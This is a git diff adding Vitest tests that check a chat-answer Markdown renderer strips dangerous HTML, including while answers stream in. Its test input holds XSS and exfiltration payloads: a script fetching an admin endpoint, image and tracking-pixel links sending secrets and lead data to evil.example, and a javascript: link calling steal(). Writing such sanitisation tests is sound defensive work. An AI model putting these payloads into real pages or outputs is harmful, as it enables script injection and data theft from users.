@@ -1,5 +1,6 @@
+import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
-import { markdownToPlainText, renderMarkdown } from "./markdown";
+import { markdownToPlainText, renderChatMarkdown, renderMarkdown } from "./markdown";
 
 describe("renderMarkdown", () => {
   it("renders Markdown with GitHub's extensions", () => {
@@ -135,5 +136,58 @@ describe("markdownToPlainText", () => {
     expect(text.endsWith("…")).toBe(true);
     expect(text.length).toBeLessThanOrEqual(31);
     expect(text).not.toMatch(/wor…$/);
+  });
+});
+
+describe("renderChatMarkdown", () => {
+  const hostile = [
+    "Here are **3 urgent** requests:",
+    "| Name | Budget |\n|---|---|\n| Ada | $5k |",
+    '<script>fetch("/api/v1/admin/users")</script>',
+    '<img src="https://evil.example/x?d=secret" onerror="alert(1)">',
+    "![tracker](https://evil.example/pixel.png?data=leads)",
+    '<a href="javascript:alert(1)" onclick="steal()">click</a>',
+    "[the guide](https://example.com/guide)",
+  ].join("\n\n");
+
+  const { document } = new JSDOM("").window;
+
+  /** What a browser would build from the HTML: no element that runs or fetches anything. */
+  function expectInert(html: string, label = "") {
+    const body = document.createElement("div");
+    body.innerHTML = html;
+    expect(
+      body.querySelectorAll("script, img, iframe, object, embed, svg, style, picture, source"),
+      label,
+    ).toHaveLength(0);
+    for (const el of body.querySelectorAll("*")) {
+      for (const attr of el.attributes) {
+        expect(attr.name.startsWith("on"), `${label} ${el.tagName} ${attr.name}`).toBe(false);
+        expect(attr.value, label).not.toMatch(/^\s*(javascript|vbscript|data):/i);
+      }
+    }
+  }
+
+  it("formats Markdown, opens external links in a new tab and shows no images", () => {
+    const html = renderChatMarkdown(hostile);
+    expect(html).toContain("<strong>3 urgent</strong>");
+    expect(html).toContain("<td>Ada</td>");
+    expect(html).toContain(
+      '<a href="https://example.com/guide" rel="noopener noreferrer" target="_blank">the guide</a>',
+    );
+    expectInert(html);
+    expect(html).not.toContain("evil.example");
+  });
+
+  it("stays sanitised for every prefix of an answer as it streams in", () => {
+    for (let end = 1; end <= hostile.length; end++) {
+      expectInert(renderChatMarkdown(hostile.slice(0, end)), `prefix of ${end} characters`);
+    }
+  });
+
+  it("leaves the blog's rendering unchanged (images kept, links in the same tab)", () => {
+    expect(renderMarkdown("![a](/media/a.png) [b](https://example.com)")).toBe(
+      '<p><img src="/media/a.png" alt="a" loading="lazy" decoding="async"> <a href="https://example.com" rel="noopener noreferrer">b</a></p>',
+    );
   });
 });
